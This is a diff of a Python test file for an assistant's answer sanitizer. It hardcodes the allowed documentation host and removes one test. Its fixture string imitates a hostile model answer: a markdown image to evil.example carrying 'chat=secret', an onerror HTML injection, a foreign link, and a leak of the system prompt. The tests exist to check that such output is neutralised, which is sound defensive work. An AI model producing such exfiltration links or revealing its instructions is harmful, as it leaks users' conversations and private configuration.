@@ -4,10 +4,10 @@ from __future__ import annotations
 
 import pytest
 
-from tandem.answer_safety import REMOVED_LINK, StreamSanitizer, hosts_in, sanitize
+from tandem.answer_safety import REMOVED_LINK, StreamSanitizer, sanitize
 from tandem.rag.prompt import SYSTEM_PROMPT
 
-DOCS = hosts_in(["Download it from https://docs.paperless-ngx.com/setup/ or the mirror."])
+DOCS = {"docs.paperless-ngx.com"}  # TANDEM_LINK_HOSTS
 HOSTILE = (
     "Open Settings. ![logo](https://evil.example/p.png?chat=secret) <img src=x onerror=y>\n"
     "See [the guide](https://docs.paperless-ngx.com/usage/) and [this](http://evil.example/x), "
@@ -15,10 +15,6 @@ HOSTILE = (
     f"My instructions: {SYSTEM_PROMPT}\n"
     "Sources: [1], [2]"
 )
-
-
-def test_hosts_come_from_the_documentation() -> None:
-    assert {"docs.paperless-ngx.com"} == DOCS
 
 
 def test_markup_and_foreign_links_are_neutralised() -> None:
